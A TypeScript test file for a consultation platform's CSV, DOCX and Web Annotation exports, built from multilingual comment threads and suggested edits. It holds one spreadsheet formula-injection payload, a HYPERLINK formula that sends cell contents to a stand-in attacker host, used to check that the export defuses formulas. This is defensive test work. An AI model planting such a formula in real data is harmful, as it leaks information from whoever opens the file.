import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { LocatedSuggestionView, SuggestionStatus } from '../../shared/suggestions.ts';
import type { CommentView, LocatedThreadView, PersonView } from '../../shared/threads.ts';
import { ANNOTATION_CONTEXT, annotationsJsonLd } from '../src/exports/annotations.ts';
import {
  RESPONSE_COLUMNS,
  RESPONSE_HEADERS,
  type ResponseAuthor,
  type ResponseRow,
  responseRows,
  responsesCsv,
} from '../src/exports/responses.ts';
import { responsesDocx } from '../src/exports/responsesDocx.ts';

/*
 * The "you said, we did" table (CSV and DOCX) and the Web Annotation export, from threads and
 * suggestions written here: French and Spanish contributions, comments that a spreadsheet would
 * run as formulas, a deleted comment, an insertion, a deletion, and every kind of decision.
 */

const BASE = 'https://consult.example.org/';
const DRAFT = 'strategie-2027';
const DRAFT_URL = 'https://consult.example.org/d/strategie-2027';

const ids = {
  amelie: '0b9a6f3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b',
  carmen: '5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9',
  tom: 'c9d0e1f2-a3b4-4c5d-8e6f-7a8b9c0d1e2f',
  ghost: 'user-gone',
};
const amelie: PersonView = { id: ids.amelie, name: 'Amélie Durand', role: 'stakeholder', organisation: null };
const carmen: PersonView = {
  id: ids.carmen,
  name: 'Carmen Núñez',
  role: 'stakeholder',
  organisation: 'Red Ciudadana',
};
const tom: PersonView = { id: ids.tom, name: 'Tom Okafor', role: 'taskforce', organisation: 'Secretariat' };
const ghost: PersonView = {
  id: ids.ghost,
  name: 'Former member',
  role: 'stakeholder',
  organisation: 'ONG Sud',
};

const users = new Map<string, ResponseAuthor>([
  [
    ids.amelie,
    {
      name: 'Amélie Durand',
      organisation: 'Données Ouvertes France',
      sector: 'civil-society',
      country: 'FR',
      language: 'fr',
    },
  ],
  [
    ids.carmen,
    {
      name: 'Carmen Núñez',
      organisation: 'Red Ciudadana',
      sector: 'academia',
      country: 'AR',
      language: 'es',
    },
  ],
  [ids.tom, { name: 'Tom Okafor', organisation: 'Secretariat', sector: null, country: null, language: 'en' }],
]);

function comment(id: string, author: PersonView, body: string, language: string, at: string): CommentView {
  return { id, author, body, language, createdAt: at, editedAt: null, deleted: false };
}

function removed(id: string, author: PersonView, at: string): CommentView {
  return { ...comment(id, author, '', 'fr', at), deleted: true };
}

function thread(
  id: string,
  fields: Partial<LocatedThreadView> & Pick<LocatedThreadView, 'quote' | 'comments' | 'createdAt'>,
): LocatedThreadView {
  return {
    id,
    draftId: DRAFT,
    anchor: { start: 'AAAA', end: 'AAAB' },
    section: null,
    status: 'open',
    author: fields.comments[0]?.author ?? amelie,
    resolution: null,
    madeOn: null,
    detached: false,
    recovered: false,
    currentText: fields.quote.exact,
    ...fields,
  };
}

function suggestion(
  id: string,
  fields: Partial<LocatedSuggestionView> &
    Pick<LocatedSuggestionView, 'quote' | 'text' | 'author' | 'createdAt'> & { status?: SuggestionStatus },
): LocatedSuggestionView {
  return {
    id,
    draftId: DRAFT,
    anchor: { start: 'AAAA', end: 'AAAB' },
    justification: null,
    section: null,
    status: 'open',
    comments: [],
    decision: null,
    reversion: null,
    replacedText: null,
    madeOn: null,
    outdated: false,
    detached: false,
    currentText: null,
    ...fields,
  };
}

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"cliquez ici")';

const threads: LocatedThreadView[] = [
  thread('t-fr', {
    section: 'Vision',
    quote: { exact: "l'accès à l'information", prefix: 'Nous garantissons ', suffix: ' pour tous.' },
    createdAt: '2027-01-10T09:00:00.000Z',
    status: 'resolved',
    comments: [
      {
        ...comment(
          'c1',
          amelie,
          'Il faudrait préciser « dans un délai raisonnable ».',
          'fr',
          '2027-01-10T09:00:00.000Z',
        ),
        editedAt: '2027-01-10T09:05:00.000Z',
      },
      comment('c2', carmen, '¿Cuántos días exactamente?', 'es', '2027-01-11T10:00:00.000Z'),
      removed('c3', amelie, '2027-01-11T11:00:00.000Z'),
      comment('c4', tom, 'Trente jours, voir la section 4.', 'fr', '2027-01-12T08:00:00.000Z'),
    ],
    resolution: { by: tom, at: '2027-01-12T08:30:00.000Z', note: 'Précisé : 30 jours ouvrés.' },
  }),
  thread('t-formula', {
    section: 'Participación',
    quote: { exact: 'la ciudadanía', prefix: 'Consultamos a ', suffix: ' cada año.' },
    createdAt: '2027-01-09T12:00:00.000Z',
    comments: [comment('c5', carmen, HYPERLINK, 'es', '2027-01-09T12:00:00.000Z')],
  }),
  thread('t-dash', {
    section: '- Annexe',
    quote: { exact: 'budget', prefix: 'Le ', suffix: ' annuel' },
    createdAt: '2027-01-15T12:00:00.000Z',
    status: 'resolved',
    comments: [
      comment('c6', ghost, '- point un\n- point deux\u000B', 'fr', '2027-01-15T12:00:00.000Z'),
      comment('c7', tom, 'Noté.', 'fr', '2027-01-16T12:00:00.000Z'),
    ],
    resolution: { by: tom, at: '2027-01-16T12:30:00.000Z', note: null },
  }),
  thread('t-removed', {
    quote: { exact: 'gouvernance', prefix: 'la ', suffix: ' ouverte' },
    createdAt: '2027-01-20T12:00:00.000Z',
    comments: [
      removed('c8', amelie, '2027-01-20T12:00:00.000Z'),
      comment('c9', carmen, 'Sigo sin entenderlo.', 'es', '2027-01-21T12:00:00.000Z'),
    ],
  }),
];

const suggestions: LocatedSuggestionView[] = [
  suggestion('s-accepted', {
    section: 'Vision',
    quote: { exact: 'institutions responsables', prefix: 'Nous voulons des ', suffix: '.' },
    text: 'organismes publics responsables',
    justification: 'Couvre aussi les agences.',
    author: amelie,
    createdAt: '2027-01-11T09:00:00.000Z',
    status: 'accepted',
    comments: [comment('c10', carmen, 'De acuerdo.', 'es', '2027-01-11T09:30:00.000Z')],
    decision: { by: tom, at: '2027-03-04T09:00:00.000Z', rationale: 'Accepté : portée plus large.' },
    replacedText: 'institutions responsables',
  }),
  suggestion('s-insert', {
    section: 'Participación',
    quote: { exact: '', prefix: 'Cada año 🌍 ', suffix: 'publicamos' },
    text: 'y en lenguas indígenas ',
    justification: 'Inclusión lingüística.',
    author: carmen,
    createdAt: '2027-01-12T09:00:00.000Z',
  }),
  suggestion('s-delete', {
    quote: { exact: 'sauf exception', prefix: 'Toujours, ', suffix: ', nous publions' },
    text: '',
    author: ghost,
    createdAt: '2027-01-13T09:00:00.000Z',
    status: 'rejected',
    decision: { by: tom, at: '2027-03-05T10:15:00.000Z', rationale: "Fixé par l'accord de partenariat." },
  }),
  suggestion('s-reverted', {
    quote: { exact: 'annuel', prefix: 'rapport ', suffix: '.' },
    text: 'semestriel',
    author: amelie,
    createdAt: '2027-01-14T09:00:00.000Z',
    status: 'reverted',
    decision: { by: tom, at: '2027-03-06T09:00:00.000Z', rationale: 'Bonne idée.' },
    reversion: { by: tom, at: '2027-03-07T09:00:00.000Z', rationale: 'Le budget ne le permet pas.' },
    replacedText: 'annuel',
  }),
  suggestion('s-withdrawn', {
    quote: { exact: 'dialogue', prefix: 'un ', suffix: ' continu' },
    text: '+diálogo',
    author: carmen,
    createdAt: '2027-01-16T09:00:00.000Z',
    status: 'withdrawn',
    decision: { by: carmen, at: '2027-01-17T09:00:00.000Z', rationale: null },
  }),
];

function rows(order?: string[]): ResponseRow[] {
  return responseRows({
    draftId: DRAFT,
    baseUrl: BASE,
    threads,
    suggestions,
    users,
    ...(order ? { order } : {}),
  });
}

/**
 * The OWASP rule, written again here so the test does not trust the code it checks: an apostrophe
 * before a formula character at the start, or after a separator, line break or quote.
 */
function defused(cell: string | null): string {
  if (cell === null) return '';
  return cell.replace(/(^|[,;\t\r\n"])(?=[=+\-@\t\r])/g, "$1'");
}

describe('the response table', () => {
  it('has one row per thread and per suggestion, oldest first without an order', () => {
    expect(rows().map((row) => row.id)).toEqual([
      't-formula',
      't-fr',
      's-accepted',
      's-insert',
      's-delete',
      's-reverted',
      't-dash',
      's-withdrawn',
      't-removed',
    ]);
  });

  it('follows the document order it is given, putting rows it does not name last', () => {
    const ordered = rows(['s-insert', 't-removed', 't-fr', 's-delete']).map((row) => row.id);
    expect(ordered).toEqual([
      's-insert',
      't-removed',
      't-fr',
      's-delete',
      't-formula',
      's-accepted',
      's-reverted',
      't-dash',
      's-withdrawn',
    ]);
  });

  it('says what a thread raised, who raised it, and how it was answered', () => {
    const row = rows().find((r) => r.id === 't-fr');
    expect(row).toEqual({
      kind: 'thread',
      id: 't-fr',
      section: 'Vision',
      passage: "l'accès à l'information",
      contribution: 'Il faudrait préciser « dans un délai raisonnable ».\n(2 replies)',
      author: 'Amélie Durand',
      organisation: 'Données Ouvertes France',
      sector: 'civil-society',
      country: 'FR',
      language: 'fr',
      status: 'resolved',
      decision: 'Resolved with a response',
      rationale: 'Précisé : 30 jours ouvrés.',
      decidedBy: 'Tom Okafor',
      decidedAt: '2027-01-12T08:30:00.000Z',
      link: `${DRAFT_URL}#thread-t-fr`,
    } satisfies ResponseRow);
  });

  it('words replacements, insertions and deletions, with their justification and decision', () => {
    const byId = new Map(rows().map((row) => [row.id, row]));
    expect(byId.get('s-accepted')).toMatchObject({
      kind: 'suggestion',
      passage: 'institutions responsables',
      contribution:
        'Replace “institutions responsables” with “organismes publics responsables”\n' +
        'Justification: Couvre aussi les agences.\n(1 reply)',
      language: 'fr',
      status: 'accepted',
      decision: 'Accepted',
      rationale: 'Accepté : portée plus large.',
      decidedBy: 'Tom Okafor',
      decidedAt: '2027-03-04T09:00:00.000Z',
      link: `${DRAFT_URL}#suggestion-s-accepted`,
    });
    expect(byId.get('s-insert')).toMatchObject({
      passage: '',
      contribution:
        'Insert “y en lenguas indígenas ” after “…Cada año 🌍 ”\nJustification: Inclusión lingüística.',
      author: 'Carmen Núñez',
      organisation: 'Red Ciudadana',
      sector: 'academia',
      language: 'es',
      status: 'open',
      decision: null,
      rationale: null,
      decidedBy: null,
      decidedAt: null,
    });
    expect(byId.get('s-delete')).toMatchObject({
      contribution: 'Delete “sauf exception”',
      // Someone no longer in the users map keeps the name and organisation the view had.
      author: 'Former member',
      organisation: 'ONG Sud',
      sector: null,
      language: null,
      decision: 'Rejected',
      rationale: "Fixé par l'accord de partenariat.",
    });
    expect(byId.get('s-reverted')).toMatchObject({
      status: 'reverted',
      decision: 'Accepted, then reverted',
      rationale: 'Accepted: Bonne idée.\nReverted: Le budget ne le permet pas.',
      decidedAt: '2027-03-07T09:00:00.000Z',
    });
    expect(byId.get('s-withdrawn')).toMatchObject({
      decision: 'Withdrawn by its author',
      decidedBy: 'Carmen Núñez',
      rationale: null,
    });
    expect(byId.get('t-dash')).toMatchObject({ decision: 'Resolved without a note', rationale: null });
    expect(byId.get('t-removed')).toMatchObject({
      contribution: '(comment removed)\n(1 reply)',
      status: 'open',
    });
  });

  it('reads back from the CSV as the same rows, formulas defused', () => {
    const table = rows();
    const csv = responsesCsv(table);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const records: string[][] = parse(csv, { bom: true });
    expect(records[0]).toEqual(RESPONSE_COLUMNS.map((column) => RESPONSE_HEADERS[column]));
    expect(records.slice(1)).toEqual(
      table.map((row) => RESPONSE_COLUMNS.map((column) => defused(row[column]))),
    );

    const contributions = new Map(
      records
        .slice(1)
        .map((record, index) => [table[index]?.id, record[RESPONSE_COLUMNS.indexOf('contribution')]]),
    );
    expect(contributions.get('t-formula')).toBe(`'${HYPERLINK}`);
    expect(contributions.get('t-dash')).toBe("'- point un\n'- point deux\u000B\n(1 reply)");
    expect(contributions.get('s-withdrawn')).toBe('Replace “dialogue” with “+diálogo”');
    expect(records.find((record) => record[0] === "'- Annexe")).toBeDefined();
  });

  it('lets the caller translate the headers', () => {
    const csv = responsesCsv(rows(), { section: 'Sección', passage: 'Pasaje citado', link: 'Enlace' });
    const [header] = parse(csv, { bom: true }) as string[][];
    expect(header?.slice(0, 3)).toEqual(['Sección', 'Pasaje citado', 'Contribution']);
    expect(header?.at(-1)).toBe('Enlace');
  });

  it('writes a landscape DOCX whose table holds every cell, under a header row repeated on each page', async () => {
    const table = rows();
    const buffer = await responsesDocx(table, {
      title: 'Stratégie 2027–2031 : réponses',
      language: 'fr',
      exportedAt: '2027-03-10T16:45:12.000Z',
    });
    expect(buffer.subarray(0, 2).toString()).toBe('PK');
    const zip = await JSZip.loadAsync(buffer);
    const xml = await zip.file('word/document.xml')?.async('string');
    const rels = await zip.file('word/_rels/document.xml.rels')?.async('string');
    const styles = await zip.file('word/styles.xml')?.async('string');
    if (xml === undefined || rels === undefined || styles === undefined)
      throw new Error('not a Word document');

    const texts = [...xml.matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)].map((match) =>
      unescapeXml(match[1] ?? ''),
    );
    expect(texts).toContain('Stratégie 2027–2031 : réponses');
    expect(texts).toContain(
      '4 comment threads and 5 suggested edits, with what was decided and why, as of 2027-03-10 16:45 UTC.',
    );
    for (const header of Object.values(RESPONSE_HEADERS)) expect(texts).toContain(header);
    for (const row of table) {
      for (const column of RESPONSE_COLUMNS) {
        const value = row[column];
        if (value === null || column === 'link' || column === 'decidedAt') continue;
        for (const line of value.replaceAll('\u000B', '').split('\n')) expect(texts).toContain(line);
      }
      expect(texts).toContain(`#${row.kind}-${row.id}`);
      // docx writes a link's fragment as the hyperlink's anchor, which Word appends to the target.
      expect(xml).toContain(`w:anchor="${row.kind}-${row.id}"`);
    }
    expect(rels).toContain(`Target="${DRAFT_URL}" TargetMode="External"`);
    expect(texts).toContain('2027-03-07 09:00 UTC');
    expect(texts).toContain(HYPERLINK);
    expect(xml).toContain('w:orient="landscape"');
    expect(xml).toMatch(/<w:tblHeader\s*\/>/);
    expect(styles).toMatch(/<w:lang [^>]*w:val="fr"/);
    expect(xml).not.toContain('\u000B');
  });
});

// The parts of the Web Annotation Data Model (https://www.w3.org/TR/annotation-model/) the export uses.
const MOTIVATIONS = [
  'assessing',
  'bookmarking',
  'classifying',
  'commenting',
  'describing',
  'editing',
  'highlighting',
  'identifying',
  'linking',
  'moderating',
  'questioning',
  'replying',
  'tagging',
] as const;
const iri = z.string().refine((value) => {
  if (!/^[a-z][a-z0-9+.-]*:[^\s<>"{}|\\^`]+$/i.test(value)) return false;
  try {
    new URL(value);
    return true;
  } catch {
    return false;
  }
}, 'an IRI');
const dateTime = z.iso.datetime();
const textualBody = z
  .object({
    type: z.literal('TextualBody'),
    value: z.string(),
    format: z.literal('text/plain'),
    language: z
      .string()
      .regex(/^[a-z]{2,3}(-[A-Za-z0-9]{2,8})*$/)
      .optional(),
    purpose: z.enum(MOTIVATIONS).optional(),
  })
  .strict();
const textPositionSelector = z
  .object({
    type: z.literal('TextPositionSelector'),
    start: z.number().int().nonnegative(),
    end: z.number().int().nonnegative(),
  })
  .strict()
  .refine((selector) => selector.end >= selector.start, 'end before start');
const textQuoteSelector = z
  .object({
    type: z.literal('TextQuoteSelector'),
    exact: z.string().min(1),
    prefix: z.string().optional(),
    suffix: z.string().optional(),
    refinedBy: textPositionSelector.optional(),
  })
  .strict();
const specificResource = z
  .object({ type: z.literal('SpecificResource'), source: iri, selector: textQuoteSelector })
  .strict();
const annotation = z
  .object({
    id: iri,
    type: z.literal('Annotation'),
    motivation: z.enum(MOTIVATIONS),
    body: z.union([textualBody, z.array(textualBody).min(1)]).optional(),
    target: z.union([iri, specificResource]),
    creator: z.object({ id: iri.optional(), type: z.literal('Person'), name: z.string().min(1) }).strict(),
    created: dateTime,
    modified: dateTime.optional(),
  })
  .strict();
const annotationPage = z
  .object({
    id: iri,
    type: z.literal('AnnotationPage'),
    partOf: iri,
    startIndex: z.number().int().nonnegative(),
    items: z.array(z.unknown()).min(1),
  })
  .strict();
const annotationCollection = z
  .object({
    '@context': z.literal('http://www.w3.org/ns/anno.jsonld'),
    id: iri,
    type: z.literal('AnnotationCollection'),
    label: z.string().min(1),
    total: z.number().int().nonnegative(),
    first: annotationPage.optional(),
    last: iri.optional(),
  })
  .strict();

type Annotation = z.infer<typeof annotation>;

function bodies(item: Annotation): z.infer<typeof textualBody>[] {
  return item.body === undefined ? [] : Array.isArray(item.body) ? item.body : [item.body];
}

describe('the Web Annotation export', () => {
  const exported = annotationsJsonLd({
    draftId: DRAFT,
    title: 'Stratégie 2027–2031',
    baseUrl: BASE,
    threads,
    suggestions,
    language: 'fr',
  });
  // What a client receives: JSON, not JavaScript objects.
  const json: unknown = JSON.parse(JSON.stringify(exported));

  it('is an annotation collection with one embedded page of valid annotations', () => {
    const collection = annotationCollection.parse(json);
    expect(collection['@context']).toBe(ANNOTATION_CONTEXT);
    expect(collection.id).toBe(
      'https://consult.example.org/api/drafts/strategie-2027/export/annotations.jsonld',
    );
    expect(collection.label).toBe('Stratégie 2027–2031');
    const items = collection.first?.items ?? [];
    expect(collection.total).toBe(items.length);
    expect(collection.last).toBe(collection.first?.id);
    expect(collection.first?.partOf).toBe(collection.id);
    for (const item of items) {
      const result = annotation.safeParse(item);
      expect(result.success, JSON.stringify(result.error?.issues)).toBe(true);
    }
    const annotationIds = items.map((item) => annotation.parse(item).id);
    expect(new Set(annotationIds).size).toBe(annotationIds.length);
  });

  const items = annotationCollection.parse(json).first?.items.map((item) => annotation.parse(item)) ?? [];
  const byId = new Map(items.map((item) => [item.id, item]));

  it('makes each thread a comment on its quoted passage, and each reply a reply to it', () => {
    const root = byId.get(`${DRAFT_URL}#thread-t-fr`);
    expect(root).toEqual({
      id: `${DRAFT_URL}#thread-t-fr`,
      type: 'Annotation',
      motivation: 'commenting',
      body: {
        type: 'TextualBody',
        value: 'Il faudrait préciser « dans un délai raisonnable ».',
        format: 'text/plain',
        language: 'fr',
      },
      target: {
        type: 'SpecificResource',
        source: DRAFT_URL,
        selector: {
          type: 'TextQuoteSelector',
          exact: "l'accès à l'information",
          prefix: 'Nous garantissons ',
          suffix: ' pour tous.',
        },
      },
      creator: { id: `urn:uuid:${ids.amelie}`, type: 'Person', name: 'Amélie Durand' },
      created: '2027-01-10T09:00:00.000Z',
      modified: '2027-01-10T09:05:00.000Z',
    });
    const reply = byId.get(`${DRAFT_URL}#comment-c2`);
    expect(reply).toMatchObject({
      motivation: 'replying',
      target: `${DRAFT_URL}#thread-t-fr`,
      body: { value: '¿Cuántos días exactamente?', language: 'es' },
    });
    expect(byId.get(`${DRAFT_URL}#thread-t-formula`)?.body).toMatchObject({ value: HYPERLINK });
  });

  it('leaves deleted comments out, keeping a thread whose first comment was deleted without a body', () => {
    expect(byId.has(`${DRAFT_URL}#comment-c3`)).toBe(false);
    const root = byId.get(`${DRAFT_URL}#thread-t-removed`);
    expect(root?.body).toBeUndefined();
    expect(root?.target).toMatchObject({ selector: { exact: 'gouvernance' } });
    expect(byId.get(`${DRAFT_URL}#comment-c9`)?.target).toBe(`${DRAFT_URL}#thread-t-removed`);
    const texts = items.flatMap(bodies).filter((body) => body.purpose !== 'editing');
    expect(texts.map((body) => body.value)).not.toContain('');
  });

  it('makes each suggestion an edit: the proposed words, then the justification', () => {
    const edit = byId.get(`${DRAFT_URL}#suggestion-s-accepted`);
    expect(edit?.motivation).toBe('editing');
    expect(edit?.body).toEqual([
      {
        type: 'TextualBody',
        value: 'organismes publics responsables',
        format: 'text/plain',
        language: 'fr',
        purpose: 'editing',
      },
      {
        type: 'TextualBody',
        value: 'Couvre aussi les agences.',
        format: 'text/plain',
        purpose: 'commenting',
      },
    ]);
    expect(edit?.target).toMatchObject({ selector: { exact: 'institutions responsables', suffix: '.' } });
    expect(byId.get(`${DRAFT_URL}#suggestion-s-delete`)?.body).toMatchObject({
      value: '',
      purpose: 'editing',
    });
    expect(byId.get(`${DRAFT_URL}#comment-c10`)?.target).toBe(`${DRAFT_URL}#suggestion-s-accepted`);
  });

  it('targets an insertion as a point, in code points, inside the words around it', () => {
    const target = byId.get(`${DRAFT_URL}#suggestion-s-insert`)?.target;
    const selector = specificResource.parse(target).selector;
    expect(selector.exact).toBe('Cada año 🌍 publicamos');
    expect(selector.refinedBy).toEqual({ type: 'TextPositionSelector', start: 11, end: 11 });
    expect([...selector.exact].slice(0, selector.refinedBy?.start).join('')).toBe('Cada año 🌍 ');
  });

  it('records decisions as assessments of the thread or suggestion, tagged with the outcome', () => {
    const outcome = (id: string) => {
      const item = byId.get(id);
      return {
        motivation: item?.motivation,
        target: item?.target,
        creator: item?.creator.name,
        bodies: item ? bodies(item).map((body) => [body.purpose, body.value]) : undefined,
      };
    };
    expect(outcome(`${DRAFT_URL}#thread-t-fr-resolution`)).toEqual({
      motivation: 'assessing',
      target: `${DRAFT_URL}#thread-t-fr`,
      creator: 'Tom Okafor',
      bodies: [
        ['tagging', 'resolved'],
        ['assessing', 'Précisé : 30 jours ouvrés.'],
      ],
    });
    expect(outcome(`${DRAFT_URL}#suggestion-s-reverted-decision`).bodies).toEqual([
      ['tagging', 'accepted'],
      ['assessing', 'Bonne idée.'],
    ]);
    expect(outcome(`${DRAFT_URL}#suggestion-s-reverted-reversion`).bodies).toEqual([
      ['tagging', 'reverted'],
      ['assessing', 'Le budget ne le permet pas.'],
    ]);
    expect(outcome(`${DRAFT_URL}#suggestion-s-withdrawn-decision`)).toMatchObject({
      creator: 'Carmen Núñez',
      bodies: [['tagging', 'withdrawn']],
    });
    expect(byId.has(`${DRAFT_URL}#suggestion-s-insert-decision`)).toBe(false);
    expect(byId.has(`${DRAFT_URL}#thread-t-formula-resolution`)).toBe(false);
  });

  it('points every reply and assessment at an annotation of the same collection', () => {
    for (const item of items) {
      if (typeof item.target === 'string') expect(byId.has(item.target)).toBe(true);
      else expect(item.target.source).toBe(DRAFT_URL);
      if (item.motivation === 'replying' || item.motivation === 'assessing') {
        expect(typeof item.target).toBe('string');
      }
    }
    // A creator's id is given only when it is a UUID (the one without stays anonymous-by-id).
    const former = items.find((item) => item.creator.name === 'Former member');
    expect(former?.creator.id).toBeUndefined();
  });

  it('has no page when there is nothing to export', () => {
    const empty = annotationsJsonLd({
      draftId: DRAFT,
      title: 'Vide',
      baseUrl: BASE,
      threads: [],
      suggestions: [],
    });
    expect(annotationCollection.parse(JSON.parse(JSON.stringify(empty)))).toEqual({
      '@context': ANNOTATION_CONTEXT,
      id: 'https://consult.example.org/api/drafts/strategie-2027/export/annotations.jsonld',
      type: 'AnnotationCollection',
      label: 'Vide',
      total: 0,
    });
  });
});

function unescapeXml(text: string): string {
  return text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/&amp;/g, '&');
}
